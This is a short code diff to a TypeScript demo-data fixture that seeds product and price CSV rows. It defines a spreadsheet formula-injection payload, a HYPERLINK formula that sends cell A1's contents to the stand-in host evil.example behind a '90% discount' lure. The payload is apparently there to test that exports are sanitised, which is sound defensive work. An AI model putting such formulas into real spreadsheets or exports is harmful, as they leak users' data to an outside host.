@@ -15,7 +15,8 @@ const DEMO = ['managers', 'cities', 'price-types', 'warehouses', 'groups', 'prod
 export const INJECTION_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Скидка 90 %")';
 
 const EXTRA: Record<string, string[]> = {
-  products: [`SKU-INJ;"${INJECTION_NAME.replaceAll('"', '""')}";@ART-INJ;;breakers;pcs`],
+  // ops/demo/products.csv: sku;name;article;barcode;group;unit;popularity;promotion
+  products: [`SKU-INJ;"${INJECTION_NAME.replaceAll('"', '""')}";@ART-INJ;;breakers;pcs;;`],
   prices: ['SKU-INJ;retail;100,00;RUB', 'SKU-INJ;wholesale;90,00;RUB', 'SKU-INJ;dealer;80,00;RUB'],
 };
 
